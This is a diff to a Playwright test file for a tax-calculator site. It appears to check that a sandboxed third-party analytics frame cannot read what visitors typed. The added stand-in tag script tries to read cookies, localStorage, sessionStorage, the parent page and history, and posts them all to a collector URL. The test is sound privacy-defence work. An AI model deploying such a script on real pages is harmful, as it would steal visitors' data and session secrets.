@@ -4,6 +4,7 @@ import { createServer, type Server } from 'node:http'
 import { createInterface } from 'node:readline'
 import type { Page } from '@playwright/test'
 import { parse } from 'node-html-parser'
+import { USAGE_FRAME } from '../site/usage.ts'
 import { seen } from './support/boxes.ts'
 import { alive, fillForm, openCalculator, submitButton } from './support/form.ts'
 import { largeAnswer } from './support/result.ts'
@@ -16,11 +17,40 @@ const port = Number(process.env['BROWSER_TEST_PORT'] ?? 4310) + 1000
 const SITE = `http://localhost:${port}`
 const COPY = `http://127.0.0.1:${port}`
 const FOLDER = 'build/published'
-/** A stand-in for an analytics tag: it sends home whatever is queued, and everything that it can see of the page. */
+/** A stand-in for an analytics tag: it sends home whatever is queued, and everything that it can reach of the page and of the browser. */
 const TAG = `http://localhost:${port + 1000}/tag.js`
 const TAG_SCRIPT = `
-const seen = () => { try { return parent.location.href } catch { return 'nothing' } }
-const send = (event) => fetch('${TAG}', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ ...event, seen: seen() + location.hash }) })
+const read = (look) => { try { return look() } catch (fault) { return 'kept from it: ' + fault.name } }
+const reach = {
+  address: () => location.href,
+  base: () => document.baseURI,
+  origin: () => origin,
+  referrer: () => document.referrer,
+  cookie: () => document.cookie,
+  local: () => JSON.stringify(localStorage),
+  session: () => JSON.stringify(sessionStorage),
+  databases: () => indexedDB.databases === undefined || indexedDB.open('x'),
+  name: () => name,
+  parent: () => parent.location.href,
+  parentName: () => parent.name,
+  parentDocument: () => parent.document.title,
+  parentMoved: () => { parent.location = '${TAG}?moved' },
+  top: () => top.location.href,
+  ancestors: () => [...location.ancestorOrigins].join(),
+  opener: () => String(opener),
+  element: () => String(frameElement),
+  opened: () => String(open('about:blank')),
+  history: () => JSON.stringify(history.state),
+  entries: () => JSON.stringify(navigation.entries().map((entry) => entry.url)),
+  timings: () => JSON.stringify(performance.getEntries().map((entry) => entry.name)),
+  page: () => document.documentElement.outerHTML,
+}
+const heard = []
+addEventListener('message', ({ data, origin, lastEventId, ports }) => heard.push({ data, origin, lastEventId, ports: ports.length }))
+const send = (event) => {
+  const seen = Object.fromEntries(Object.entries(reach).map(([name, look]) => [name, read(look)]))
+  fetch('${TAG}', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ event, seen, heard }) })
+}
 for (const event of dataLayer) send(event)
 dataLayer.push = send`
 
@@ -28,9 +58,16 @@ test.describe.configure({ mode: 'serial' })
 test.use({ baseURL: SITE })
 serverTest.use({ baseURL: SITE })
 
+/** What the stand-in sends home. */
+interface Sent {
+  readonly event: Readonly<Record<string, string>>
+  readonly seen: Readonly<Record<string, string>>
+  readonly heard: readonly Readonly<Record<string, unknown>>[]
+}
+
 let server: ChildProcess
 /** What the stand-in tag was given, and sent home. */
-let collected: unknown[] = []
+let collected: Sent[] = []
 let tag: Server
 
 test.beforeAll(async () => {
@@ -46,7 +83,7 @@ test.beforeAll(async () => {
     let body = ''
     request.on('data', (part: Buffer) => (body += part.toString()))
     request.on('end', () => {
-      collected.push(JSON.parse(body))
+      collected.push(JSON.parse(body) as Sent)
       response.end()
     })
   }).listen(port + 1000)
@@ -189,9 +226,10 @@ test('the consent question covers nothing, and nothing moves when it appears', a
 })
 
 test.describe('a visitor who agrees', () => {
-  test.use({ mayReach: [new URL(TAG).origin] })
+  // What the stand-in tries is refused on the console.
+  test.use({ mayReach: [new URL(TAG).origin], expectedMessages: [/^(Blocked opening|Unsafe attempt to initiate navigation)/] })
 
-  test('is counted with amounts as bands, by a tag that sees neither the page nor its address', async ({ page }) => {
+  test('is counted with amounts as bands', async ({ page }) => {
     collected = []
     await openCalculator(page, '/income-tax-calculator')
     await consent(page).getByRole('button', { name: 'Agree' }).click()
@@ -200,11 +238,47 @@ test.describe('a visitor who agrees', () => {
     await submitButton(page).click()
     await expect(largeAnswer(page)).toBeVisible()
     await expect.poll(() => collected.length).toBe(3)
-    const about = { category: 'calculator', label: 'income-tax', value: '20000 to 49999', seen: 'nothing' }
-    expect(collected).toEqual([
-      { event: 'page_view', name: 'page_view', category: 'page', label: '/income-tax-calculator', seen: 'nothing' },
+    const about = { category: 'calculator', label: 'income-tax', value: '20000 to 49999' }
+    expect(collected.map(({ event }) => event)).toEqual([
+      { event: 'page_view', name: 'page_view', category: 'page', label: '/income-tax-calculator' },
       { event: 'calculate', name: 'calculate', ...about },
       { event: 'income_tax_calculation', name: 'income_tax_calculation', ...about },
     ])
   })
+
+  test('has a tag that reaches nothing of what was typed, whatever it reads', async ({ page }) => {
+    const typed = '48271.93'
+    await page.goto('/about')
+    await consent(page).getByRole('button', { name: 'Agree' }).click()
+    collected = []
+    // A link with inputs, a reload, an answer remembered on the device, and a second form that is offered it.
+    await openCalculator(page, '/income-tax-calculator', { annualSalary: typed, region: 'scotland' })
+    await expect(largeAnswer(page)).toBeVisible()
+    await page.getByLabel('Remember on this device').check()
+    await page.reload()
+    await submitButton(page).click()
+    await expect.poll(() => collected.length).toBeGreaterThan(3)
+    await openCalculator(page, '/specialised-tax/side-hustle-tax-calculator')
+    await expect.poll(() => collected.some(({ event }) => event['label'] === '/specialised-tax/side-hustle-tax-calculator')).toBe(true)
+    expect(await page.evaluate(() => JSON.stringify(localStorage))).toContain(typed)
+    expect(JSON.stringify(collected)).not.toMatch(/48[,.]?271|scotland|#\w/i)
+    const [{ seen: reached }] = collected as [Sent]
+    expect(reached).toMatchObject({
+      address: `${SITE}${USAGE_FRAME}`,
+      base: `${SITE}${USAGE_FRAME}`,
+      origin: 'null',
+      referrer: '',
+      name: '',
+      ancestors: SITE,
+    })
+    for (const name of ['cookie', 'local', 'session', 'parent', 'parentName', 'parentDocument', 'top'])
+      expect(reached[name], name).toMatch(/^kept from it: /)
+    expect(page.url()).toContain('/specialised-tax/side-hustle-tax-calculator')
+  })
+})
+
+test('whoever opens the frame of the tag as a page does not run the tag', async ({ page, requests }) => {
+  await page.goto(USAGE_FRAME)
+  await page.waitForLoadState('networkidle')
+  expect(requests.map(({ url }) => url)).toEqual([`${SITE}${USAGE_FRAME}`])
 })
